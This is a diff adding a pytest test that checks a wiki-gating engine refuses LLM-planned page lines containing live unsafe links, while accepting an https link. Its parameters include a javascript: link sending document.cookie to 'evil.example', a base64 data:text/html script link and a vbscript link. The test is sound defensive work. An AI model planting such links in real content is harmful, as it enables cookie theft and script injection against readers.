@@ -106,3 +106,34 @@ def test_the_check_itself_sees_a_live_link() -> None:
     """The test's renderer does form these links when nothing makes them inert."""
     assert _unsafe("\n\n".join(HOSTILE)) != []
     assert len(_unsafe("- [a](javascript:alert(1))\n- [b](https://ok.example)")) == 1
+
+
+
+@pytest.mark.parametrize("link", ["[the sheet](javascript:fetch('//evil.example/'+document.cookie))",
+                                  "[the sheet](data:text/html;base64,PHNjcmlwdD4=)", "[s]: vbscript:msgbox(1)"])
+def test_the_gates_refuse_a_plan_line_that_adds_a_live_unsafe_link(tmp_path: Path, link: str) -> None:
+    """What a planner (an LLM's reply) writes into a wiki page is judged too: a line adding a live link to
+    another scheme is refused (contract); the same line with an https link is filed."""
+    import subprocess
+
+    from test_gates_support import cited, commit, make_source, op
+
+    from stigmergy.gates.engine import evaluate
+    from stigmergy.plan.schema import CreatePage, Plan
+    from stigmergy.settings import Settings
+
+    root = tmp_path / "r"
+    root.mkdir()
+    subprocess.run(["git", "init", "-q", str(root)], check=True)
+    own = make_source(root, 8, ["Harbor Logistics moved 4,000 shipments in April 2026."])
+    commit(root, [own[0]])
+    rel = "wiki/notes/Harbor.md"
+
+    def plan(extra: str) -> Plan:
+        line = f"- Harbor Logistics moved 4,000 shipments in April 2026, see {extra}. {cited(rel, own, 0)}"
+        return Plan((CreatePage("note", "Harbor", f"# Harbor\n\n{line}\n"),))
+
+    verdict = evaluate(plan(link), root, Settings(), op(n=8, source_path=own[0]))
+    assert any(v.rule == "contract" and "would be live" in v.message for v in verdict.violations), verdict.violations
+    verdict = evaluate(plan("[the sheet](https://sheets.example/q1)"), root, Settings(), op(n=8, source_path=own[0]))
+    assert not [v for v in verdict.violations if "would be live" in v.message], verdict.violations
